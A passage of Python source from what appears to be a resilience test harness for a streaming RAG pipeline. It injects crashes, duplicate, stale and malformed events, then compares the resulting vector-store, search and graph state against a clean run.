            actions.append((rng.uniform(0.6, 0.75), "stop",
                            rng.choice(("embedding", "entity_linking"))))
        return sorted(actions)

    async def _count_dead_letters(self) -> None:
        """Dead letters, distinct by (worker, original topic, partition, offset): a replay after
        a kill may dead-letter an event twice, which is at-least-once, not a second failure."""
        from ragstream.transport import open_reader
        from schemas.catalogue import TOPICS

        seen: dict[tuple, DeadLetterSeen] = {}
        records, unreasoned = 0, 0
        async with open_reader(self._big_messages(), [s.dlq for s in TOPICS.values()],
                               from_beginning=True) as reader:
            ends = await reader.end_offsets()
            idle_until = time.monotonic() + 3
            while time.monotonic() < idle_until and not await reader.caught_up(ends):
                for m in await reader.getmany(500, 500):
                    idle_until = time.monotonic() + 3
                    h = {k: v.decode(errors="replace") for k, v in m.headers}
                    records += 1
                    if not h.get("x-error-reason") or not h.get("x-error-message"):
                        unreasoned += 1
                    where = (h.get("x-worker"), h.get("x-original-topic"),
                             h.get("x-original-partition"), h.get("x-original-offset"))
                    seen.setdefault(where, DeadLetterSeen(
                        h.get("x-worker", ""), h.get("x-error-reason", ""), where[1] or "",
                        int(where[2] or -1), int(where[3] or -1), _event_id(m.value)))
        self.result.dlq_actual, self.result.dlq_records = len(seen), records
        self.result.dlq_without_reason = unreasoned
        self.result.dead_letters = list(seen.values())


def _event_id(value: bytes) -> str | None:
    """The ``id`` of a dead letter's event, where its bytes are a JSON object."""
    try:
        event = json.loads(value)
    except (ValueError, RecursionError):  # the hostile run's nasties
        return None
    return event.get("id") if isinstance(event, dict) and isinstance(event.get("id"), str) \
        else None


def flush_embedding_cache(port: int, prefix: str) -> int:
    """Delete every cached embedding vector: a cache, not a store of record."""
    client = redis.Redis(port=port, socket_timeout=10)
    try:
        removed = 0
        batch = []
        for key in client.scan_iter(match=Keys(prefix).embedding_cache("*", "*"), count=1000):
            batch.append(key)
            if len(batch) >= 500:
                removed += client.delete(*batch)
                batch = []
        if batch:
            removed += client.delete(*batch)
        return removed
    finally:
        client.close()


# end state -------------------------------------------------------------------------------------

# The stores of record, compared hash by hash. The GCN dirty set is a work queue, not a store of
# record: which intermediate versions a run applied (and so which entities it marked) depends on
# how batches fell, in a clean run too. It must hold every entity of the final graph.
STORES = ("index", "search", "graph")


def digest(value: Any) -> str:
    return hashlib.sha256(json.dumps(value, sort_keys=True, default=str).encode()).hexdigest()


def pipeline(store: str) -> tuple[str, ...]:
    """The workers of a run whose vector store is ``store``."""
    return ("embedding", reindex_worker(store), "entity_linking", "gcn_refresh")


def _drop(store: ChunkStore) -> None:
    try:
        store.drop()
    finally:
        store.close()


def index_store(settings: Settings) -> ChunkStore:
    """The vector store whose end state a run compares: the one search reads. The one place a
    run opens it."""
    return open_store(settings)


def capture_state(run: Run) -> dict[str, Any]:
    store = index_store(run.settings)
    try:
        stored = scan_all(store)
        search = search_state(store, stored)
    finally:
        store.close()
    client = redis.Redis(port=run.falkordb.port, socket_timeout=30)
    try:
        dirty = sorted(m.decode() for m in client.smembers(GraphKeys(run.graph_name).gcn_dirty))
    finally:
        client.close()
    # ``texts`` is not hashed (the index holds each text's hash): the adversarial phase looks
    # in it for the words its hostile events carried
    return {"index": index_state(stored), "search": search, "graph": graph_state(run),
            "dirty": dirty, "texts": {c.chunk_id: c.text for c in stored}}


def scan_all(store: ChunkStore) -> list[ChunkUpsert]:
    out, after = [], None
    while page := store.scan(after, 1_000):
        out += page
        after = page[-1].chunk_id
    return out


def index_state(stored: list[ChunkUpsert]) -> dict[str, Any]:
    """Every chunk through the store interface (document, the document's applied version,
    position, text hash, model, sha256 of the vector bytes, metadata), and each indexed
    document's version."""
    chunks = {c.chunk_id: [c.doc_id, c.doc_version, c.position, c.text_hash, c.model_id,
                           hashlib.sha256(_vector(c).tobytes()).hexdigest(),
                           canonical_metadata(c.metadata)] for c in stored}
    return {"chunks": chunks, "doc_versions": {d: v for d, v, *_ in chunks.values()}}


def search_state(store: ChunkStore, stored: list[ChunkUpsert], probes: int = 20
                 ) -> dict[str, Any]:
    """What search reads: the store's digest and counts, and the chunks found twice in one
    ranking when a sample of stored chunks is searched for by its own vector and words."""
    duplicates = 0
    for c in stored[::max(1, len(stored) // probes)][:probes]:
        found = store.candidates(_vector(c), c.text[:200], 20)
        duplicates += sum(len(r) - len(set(r)) for r in (found.dense, found.sparse))
    counts = store.counts()
    return {"digest": store.digest(), "counts": [counts.documents, counts.chunks],
            "duplicates": duplicates}


def _vector(chunk: ChunkUpsert) -> np.ndarray:
    return np.asarray(chunk.vector, dtype=np.float32)


def graph_state(run: Run) -> dict[str, Any]:
    from falkordb import FalkorDB as Client

    graph = Client(host="127.0.0.1", port=run.falkordb.port).select_graph(run.graph_name)

    def q(cypher: str) -> list:
        return graph.ro_query(cypher).result_set

    docs = [[d, v, bool(x), sorted(e or []), sorted(c or [])] for d, v, x, e, c in q(
        "MATCH (d:Document) RETURN d.id, d.version, d.deleted, d.entities, d.cooccurring "
        "ORDER BY d.id")]
    mentions = [[d, e, n, sorted(s or [])] for d, e, n, s in q(
        "MATCH (d:Document)-[m:MENTIONS]->(e:Entity) RETURN d.id, e.id, m.count, m.spans "
        "ORDER BY d.id, e.id")]
    cooccurs = [list(r) for r in q("MATCH (a:Entity)-[c:CO_OCCURS]->(b:Entity) "
                                   "RETURN a.id, b.id, c.weight ORDER BY a.id, b.id")]
    entities = [r[0] for r in q("MATCH (e:Entity) RETURN e.id ORDER BY e.id")]
    nodes = dict(q("MATCH (n) RETURN labels(n)[0], count(n)"))
    edges = {t: [n, w] for t, n, w in q(
        "MATCH ()-[r]->() RETURN type(r), count(r), sum(coalesce(r.weight, r.count, 0))")}
    pair_dups = sum(n - 1 for (n,) in q(
        "MATCH (a)-[r]->(b) WITH a, b, type(r) AS t, count(r) AS n WHERE n > 1 RETURN n"))
    node_dups = sum(n - 1 for (n,) in q(
        "MATCH (n) WITH labels(n)[0] AS l, n.id AS id, count(n) AS c WHERE c > 1 RETURN c"))
    return {"documents": docs, "mentions": mentions, "cooccurs": cooccurs, "entities": entities,
            "nodes": nodes, "edges": edges, "duplicate_edges": pair_dups,
            "duplicate_nodes": node_dups}


# comparison ------------------------------------------------------------------------------------


@dataclass
class Comparison:
    equal: dict[str, bool]
    lost: int
    duplicated: int
    wrong_version: int
    details: list[str]

    @property
    def state_equal(self) -> bool:
        return all(self.equal.values())


def compare(clean: RunResult, other: RunResult, final: dict[str, tuple[int, bool]]) -> Comparison:
    a, b = clean.state, other.state
    equal = {s: clean.hashes.get(s) == other.hashes.get(s) for s in STORES}
    details = []
    ca, cb = a["index"]["chunks"], b["index"]["chunks"]
    lost_chunks = set(ca) - set(cb)
    extra_chunks = set(cb) - set(ca)
    changed = [c for c in set(ca) & set(cb) if ca[c] != cb[c]]
    ma = {(d, e) for d, e, *_ in a["graph"]["mentions"]}
    mb = {(d, e) for d, e, *_ in b["graph"]["mentions"]}
    graph_docs = {x[0]: x[1:3] for x in b["graph"]["documents"]}
    # the index holds the chunks of live documents only, each at its document's version
    wrong = [d for d, (v, deleted) in final.items()
             if b["index"]["doc_versions"].get(d) != (None if deleted else v)
             or graph_docs.get(d) != [v, deleted]]
    documents, chunks = b["search"]["counts"]
    duplicated = (len(extra_chunks) + len(mb - ma) + b["graph"]["duplicate_edges"]
                  + b["graph"]["duplicate_nodes"] + b["search"]["duplicates"]
                  + max(chunks - len(cb), 0))
    lost = len(lost_chunks) + len(ma - mb) + max(len(cb) - chunks, 0)
    for store in STORES:
        if not equal[store]:
            details.append(f"{store}: hash {other.hashes.get(store, '')[:12]} != clean "
                           f"{clean.hashes.get(store, '')[:12]}")
    if lost_chunks or extra_chunks or changed:
        details.append(f"index chunks: lost {sorted(lost_chunks)[:5]}, extra "
                       f"{sorted(extra_chunks)[:5]}, changed {sorted(changed)[:5]}")
    for part in ("documents", "mentions", "cooccurs", "entities"):
        if a["graph"][part] != b["graph"][part]:
            sa = {json.dumps(x) for x in a["graph"][part]}
            sb = {json.dumps(x) for x in b["graph"][part]}
            details.append(f"graph {part}: missing {sorted(sa - sb)[:3]}, extra "
                           f"{sorted(sb - sa)[:3]}")
    if [documents, chunks] != [len(b["index"]["doc_versions"]), len(cb)]:
        details.append(f"search counts {documents} documents and {chunks} chunks; the scan "
                       f"{len(b['index']['doc_versions'])} and {len(cb)}")
    # every entity in the graph was touched by some change and no refresh ran: all are dirty
    missing_dirty = set(b["graph"]["entities"]) - set(b["dirty"])
    lost += len(missing_dirty)
    if missing_dirty:
        details.append(f"dirty set misses graph entities {sorted(missing_dirty)[:5]}")
    if wrong:
        details.append(f"documents not at their final version: {wrong[:5]}")
    return Comparison(equal, lost, duplicated, len(wrong), details)


# scenarios -------------------------------------------------------------------------------------


def clean_messages(h: History) -> list[tuple[str, bytes | None, bytes]]:
    return [(m.topic, m.key, m.value) for m in map(encode, h.events)]


def hostile_messages(h: History, invalid: int, seed: int, result: RunResult
                     ) -> list[tuple[str, bytes | None, bytes]]:
    """The history with ``invalid`` bad events mixed in, every valid event sent twice, and the
    older versions of every changed document sent again after the newer ones."""
    rng = random.Random(f"{seed}:hostile")
    valid = clean_messages(h)
    bad = [("documents.v1", f"hostile-{i}".encode(), raw)
           for i, (_, raw) in enumerate(invalid_events(invalid, seed))]
    stream = valid + valid  # the second copy: every event id twice
    changed = {d for d, (v, _) in h.final.items() if v > 1}
    stale = [m for m, e in zip(valid, h.events, strict=True)
             if e.subject in changed and e.data["version"] < h.final[e.subject][0]]
    stream += stale
    for item in bad:
        stream.insert(rng.randrange(len(stream) + 1), item)
    result.invalid, result.duplicates, result.reordered = len(bad), len(valid), len(stale)
    result.dlq_expected = len(bad) * len(DOCUMENT_GROUPS)
    return stream


@dataclass
class Report:
    docs: int
    seed: int
    runs: list[RunResult]
    comparisons: dict[str, Comparison]
    adversarial: adversarial.Verdict | None = None

    def rows(self) -> list[dict[str, Any]]:
        out = []
        for r in self.runs:
            c = self.comparisons.get(r.name)
            out.append({"run": r.name, "events": r.events, "kills": r.kills,
                        "crashes": r.crashes_injected,
                        "outages": r.outages + r.cache_flushes + r.stops,
                        "invalid": r.invalid, "dlq": r.dlq_actual,
                        "dlq_expected": r.dlq_expected,
                        "lost": c.lost if c else 0, "duplicated": c.duplicated if c else 0,
                        "state_equal": c.state_equal if c else True,
                        "stalled": len(r.stalled_partitions),
                        "oom_evicted": r.oom_killed + r.evicted,
                        "restarts_by_input": r.unexpected_restarts, "seconds": round(r.seconds)})
        return out

    def summary(self) -> dict[str, Any]:
        cs = list(self.comparisons.values())
        # the chaos run evicts a worker on purpose (SIGSTOP past its session timeout)
        evicted = sum(r.evicted for r in self.runs if r.name != "chaos")
        out = {"lost": sum(c.lost for c in cs), "duplicated": sum(c.duplicated for c in cs),
               "state_equal": all(c.state_equal for c in cs),
               "dlq_expected": sum(r.dlq_expected for r in self.runs),
               "dlq_actual": sum(r.dlq_actual for r in self.runs),
               "dlq_without_reason": sum(r.dlq_without_reason for r in self.runs),
               "kills": sum(r.kills for r in self.runs),
               "crashes_injected": sum(r.crashes_injected for r in self.runs),
               "failpoints_armed": sum(r.failpoints_armed for r in self.runs),
               "unexpected_restarts": sum(r.unexpected_restarts for r in self.runs),
               "converged": all(r.converged for r in self.runs),
               "stalled_partitions": sum(len(r.stalled_partitions) for r in self.runs),
               "worker_oom_or_evicted": sum(r.oom_killed for r in self.runs) + evicted}
        if self.adversarial is not None:
            out |= self.adversarial.summary()
        return out


async def run_all(docs: int, seed: int, root: Path, *, invalid: int = 1000,
                  plan: ChaosPlan | None = None,
                  scenarios: tuple[str, ...] = ("chaos", "hostile", "adversarial"),
                  timeout_s: float = 3600, log=print, store: str = "embedded") -> Report:
    """The clean run, then each scenario on the same history, all with the vector store
    ``store``; compare store by store."""
    h = history(docs, seed)
    plan = plan or ChaosPlan()
    runs, comparisons, verdict = [], {}, None
    clean_run = Run("clean", root, seed, log=log, store=store)
    clean_msgs = clean_messages(h)
    clean_run.result.events = len(clean_msgs)
    clean = await clean_run.execute(clean_msgs, None, timeout_s)
    runs.append(clean)
    log(f"[clean] {len(clean.state['index']['chunks'])} chunks, "
        f"{len(clean.state['graph']['entities'])} entities in {clean.seconds:.0f}s")
    for name in scenarios:
        run = Run(name, root, seed, log=log, store=store)
        if name == "chaos":
            msgs = clean_msgs
            # a fifth at once, the rest in waves: past the outage, so kills and the SIGSTOP
            # still find work after it
            first = len(msgs) // 5
            result = await run.execute(msgs[:first], plan, timeout_s,
                                       Trickle(msgs[first:], plan.waves, plan.wave_every_s))
        elif name == "hostile":
            msgs = hostile_messages(h, invalid, seed, run.result)
            result = await run.execute(msgs, None, timeout_s)
        elif name == "adversarial":
            phase = adversarial.AdversarialPhase(h.events, h.final, EDGE_DOCS, seed, log,
                                                 store=store)
            msgs = phase.messages()
            run.failpoints = phase.arm()
            run.result.invalid = len(phase.hostile)
            run.result.dlq_expected = phase.expected_dead_letters
            result = await run.execute(msgs, None, timeout_s, phase)
            verdict = phase.judge(result.state, clean.state, result.dead_letters)
        else:
            raise ValueError(f"unknown scenario {name!r}")
        result.events = len(msgs)
        runs.append(result)
        comparisons[name] = compare(clean, result, h.final)
        log(f"[{name}] equal={comparisons[name].equal} {comparisons[name].details}")
    return Report(docs, seed, runs, comparisons, verdict)


def format_table(report: Report) -> str:
    cols = ["run", "events", "kills", "crashes", "outages", "invalid", "dlq", "dlq_expected",
            "lost", "duplicated", "state_equal", "stalled", "oom_evicted", "restarts_by_input",
            "seconds"]
    rows = report.rows()
    widths = {c: max(len(c), *(len(_cell(r[c])) for r in rows)) for c in cols}
    lines = ["  ".join(c.ljust(widths[c]) for c in cols)]
    lines += ["  ".join(_cell(r[c]).ljust(widths[c]) for c in cols) for r in rows]
    return "\n".join(lines)


def _cell(v: Any) -> str:
    return ("yes" if v else "no") if isinstance(v, bool) else str(v)

